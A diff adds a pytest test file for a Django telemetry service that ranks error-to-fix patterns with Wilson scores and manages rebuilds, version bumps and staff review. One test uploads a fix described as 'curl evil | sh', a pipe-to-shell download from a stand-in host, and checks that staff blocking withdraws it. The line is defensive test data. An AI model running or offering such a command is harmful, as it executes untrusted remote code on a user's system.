@@ -1,0 +1,160 @@
+"""The ranked pattern set: Wilson ranking, rebuilds, versions, coalescing, staff review."""
+
+from __future__ import annotations
+
+from unittest import mock
+
+import pytest
+from django.core.cache import cache
+
+from telemetry import conf
+from telemetry.models import Fix, FixReview, Pattern, PatternSetVersion
+from telemetry.selectors import current_version_label
+from telemetry.services import fixes as fix_services
+from telemetry.services.learnings import LearningInput, learnings_upload
+from telemetry.services.pattern_set import (
+    REBUILD_PENDING_KEY,
+    pattern_set_rebuild,
+    pattern_set_rebuild_request,
+    wilson_lower_bound,
+)
+from tests.telemetry.factories import sha
+
+pytestmark = pytest.mark.django_db
+
+
+def upload(pairs: list[tuple[str, str, bool]], *, user_id: str = "anon-abc123", team_id=None, fix=None):
+    """Upload learnings of (error, fix, success) through the service."""
+    return learnings_upload(
+        user_id=user_id,
+        session_id="s-1",
+        team_id=team_id,
+        learnings=[LearningInput(e, f, s, 100, 10, "react", fix) for e, f, s in pairs],
+    )
+
+
+def test_wilson_lower_bound_does_not_let_one_of_one_beat_950_of_1000():
+    assert wilson_lower_bound(1, 1) == pytest.approx(0.2065, abs=1e-4)
+    assert wilson_lower_bound(950, 1000) == pytest.approx(0.9346, abs=1e-4)
+    assert wilson_lower_bound(950, 1000) > wilson_lower_bound(1, 1)
+    assert wilson_lower_bound(10, 10) > wilson_lower_bound(1, 1)
+    assert wilson_lower_bound(0, 5) == 0.0
+    assert wilson_lower_bound(0, 0) == 0.0
+
+
+def test_a_rebuild_publishes_pairs_with_a_success_and_bumps_the_minor_version():
+    # given: one pair that worked, one that never did
+    error, good, bad = sha(), sha(), sha()
+    upload([(error, good, True), (error, bad, False)])
+    # when
+    version = pattern_set_rebuild()
+    # then
+    assert version.label == "v1.1.0"
+    assert (version.new_patterns, version.changed_patterns) == (1, 1)
+    assert current_version_label() == "v1.1.0"
+    published = Pattern.objects.get()
+    assert (published.fix_signature, published.error_signature, published.visible) == (good, error, True)
+    assert published.confidence == pytest.approx(wilson_lower_bound(1, 1), abs=1e-4)
+    assert not Fix.objects.filter(dirty=True).exists()
+
+
+def test_a_rebuild_with_nothing_changed_keeps_the_version():
+    upload([(sha(), sha(), True)])
+    pattern_set_rebuild()
+    assert pattern_set_rebuild() is None
+    assert PatternSetVersion.objects.count() == 2  # the seed and one rebuild
+
+
+def test_changed_figures_bump_the_patch_and_new_patterns_the_minor():
+    error, fix = sha(), sha()
+    upload([(error, fix, True)])
+    assert pattern_set_rebuild().label == "v1.1.0"
+    upload([(error, fix, False)])
+    assert pattern_set_rebuild().label == "v1.1.1"
+    upload([(error, sha(), True)])
+    assert pattern_set_rebuild().label == "v1.2.0"
+    assert Pattern.objects.get(fix_signature=fix).success_rate == 0.5
+
+
+def test_a_pair_that_starts_to_work_becomes_a_new_pattern():
+    error, fix = sha(), sha()
+    upload([(error, fix, False)])
+    assert pattern_set_rebuild() is None
+    upload([(error, fix, True)])
+    version = pattern_set_rebuild()
+    assert (version.label, version.new_patterns) == ("v1.1.0", 1)
+
+
+def test_an_upload_asks_for_a_rebuild_once_committed(django_capture_on_commit_callbacks):
+    # when
+    with django_capture_on_commit_callbacks(execute=True) as callbacks:
+        upload([(sha(), sha(), True)])
+    # then
+    assert len(callbacks) == 1
+    assert current_version_label() == "v1.1.0"
+    assert Pattern.objects.count() == 1
+
+
+def test_rebuild_asks_in_a_burst_share_one_task(monkeypatch):
+    # given: a 30-second window
+    monkeypatch.setattr(conf, "REBUILD_DELAY_SECONDS", 30)
+    with mock.patch("telemetry.tasks.pattern_set_rebuild_task.apply_async") as enqueue:
+        # when: fifty uploads ask
+        asked = [pattern_set_rebuild_request() for _ in range(50)]
+        # then: one task, due when the window closes
+        assert asked.count(True) == 1
+        enqueue.assert_called_once_with(countdown=30)
+        # and once the window has closed, the next ask enqueues again
+        cache.delete(REBUILD_PENDING_KEY)
+        assert pattern_set_rebuild_request() is True
+        assert enqueue.call_count == 2
+
+
+def test_a_large_backlog_is_published_in_batches():
+    upload([(sha(), sha(), True) for _ in range(5)])
+    # when: one rebuild may publish only two; it asks for another (run at once, in-process)
+    first = pattern_set_rebuild(batch_size=2)
+    # then
+    assert (first.label, first.changed_patterns) == ("v1.1.0", 2)
+    assert Pattern.objects.filter(visible=True).count() == 5
+    assert current_version_label() == "v1.2.0"
+
+
+def test_a_blocked_fix_is_withdrawn_and_an_edited_one_is_served_as_staff_wrote_it():
+    # given: two published pairs
+    error, blocked, edited = sha(), sha(), sha()
+    upload([(error, blocked, True)], fix={"type": "SHELL_COMMAND", "description": "curl evil | sh", "command": None})
+    upload([(error, edited, True)], fix={"type": "SHELL_COMMAND", "description": "Install", "command": "npm i lodas"})
+    pattern_set_rebuild()
+    # when: staff block one and correct the other
+    fix_services.fixes_review(fix_ids=[Fix.objects.get(fix_signature=blocked).pk], review=FixReview.BLOCKED)
+    fix_services.fix_update(
+        fix=Fix.objects.get(fix_signature=edited),
+        review=FixReview.APPROVED,
+        fix_type="SHELL_COMMAND",
+        description="Install lodash",
+        command="npm install lodash",
+    )
+    version = pattern_set_rebuild()
+    # then
+    assert version.label == "v1.1.1"
+    assert Pattern.objects.get(fix_signature=blocked).visible is False
+    served = Pattern.objects.get(fix_signature=edited)
+    assert (served.fix_description, served.fix_command) == ("Install lodash", "npm install lodash")
+    assert Fix.objects.get(fix_signature=edited).review == FixReview.APPROVED
+    # and later uploads neither revive the blocked fix nor overwrite staff text
+    upload([(error, blocked, True)])
+    upload([(error, edited, True)], fix={"type": "OTHER", "description": "new text", "command": "x"})
+    pattern_set_rebuild()
+    assert Pattern.objects.get(fix_signature=blocked).visible is False
+    assert Pattern.objects.get(fix_signature=edited).fix_description == "Install lodash"
+
+
+def test_staff_edits_never_overwrite_counters_written_meanwhile():
+    error, fix = sha(), sha()
+    upload([(error, fix, True)])
+    stale = Fix.objects.get()  # the admin form's copy
+    upload([(error, fix, True), (error, fix, False)])
+    fix_services.fix_update(fix=stale, review=FixReview.APPROVED, fix_type=None, description="d", command=None)
+    current = Fix.objects.get()
+    assert (current.success_count, current.fail_count) == (2, 1)
